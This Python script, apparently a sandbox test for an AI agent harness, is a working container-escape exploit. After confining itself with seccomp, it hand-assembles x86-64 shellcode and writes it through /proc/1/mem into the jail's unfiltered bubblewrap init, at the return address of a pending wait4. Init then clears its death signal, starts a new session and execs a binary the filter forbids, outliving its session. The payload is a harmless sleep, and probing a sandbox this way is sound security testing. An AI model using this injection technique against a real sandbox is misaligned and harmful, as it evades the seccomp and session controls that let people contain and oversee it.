"""INSIDE the jail, after the worker's own walls (confine.early, seccomp): take over pid 1 of the jail's pid
namespace (bubblewrap's init, which loaded no seccomp filter) by writing code into it through /proc/1/mem, at the
return address of the wait4 it is blocked in. When this process exits, init's wait4 returns into our code:
prctl(PR_SET_PDEATHSIG, 0); setsid(); execve("/bin/sleep", ["/bin/sleep", "317"]) -- an exec the seccomp filter
forbids, in a process that no longer dies with its parent nor with bubblewrap's process group."""
import os
import struct

from onboard.agent.sandbox import confine

confine.early(0)
confine.memory(8 << 30)
confine.seccomp()

code = bytearray()
code += b"\xbf\x01\x00\x00\x00" + b"\x31\xf6" + b"\xb8\x9d\x00\x00\x00\x0f\x05"   # prctl(1, 0)
code += b"\xb8\x70\x00\x00\x00\x0f\x05"                                           # setsid()
lea_rdi = len(code)
code += b"\x48\x8d\x3d" + b"\0\0\0\0"                                             # lea rdi, [rip+path]
lea_rax = len(code)
code += b"\x48\x8d\x05" + b"\0\0\0\0"                                             # lea rax, [rip+arg]
code += b"\x6a\x00\x50\x57" + b"\x48\x89\xe6" + b"\x31\xd2"                       # argv on the stack, envp NULL
code += b"\xb8\x3b\x00\x00\x00\x0f\x05"                                           # execve
code += b"\xbf\x2a\x00\x00\x00\xb8\x3c\x00\x00\x00\x0f\x05"                       # exit(42)
path = len(code)
code += b"/bin/sleep\0"
arg = len(code)
code += b"317\0"
code[lea_rdi + 3:lea_rdi + 7] = struct.pack("<i", path - (lea_rdi + 7))
code[lea_rax + 3:lea_rax + 7] = struct.pack("<i", arg - (lea_rax + 7))

fields = open("/proc/1/syscall").read().split()
print("pid 1 blocked in syscall", fields[0], "pc", fields[-1], flush=True)
pc = int(fields[-1], 16)
fd = os.open("/proc/1/mem", os.O_RDWR)
print("wrote", os.pwrite(fd, bytes(code), pc), "bytes into pid 1 at", hex(pc), flush=True)
print("ARMED", flush=True)
os._exit(0)
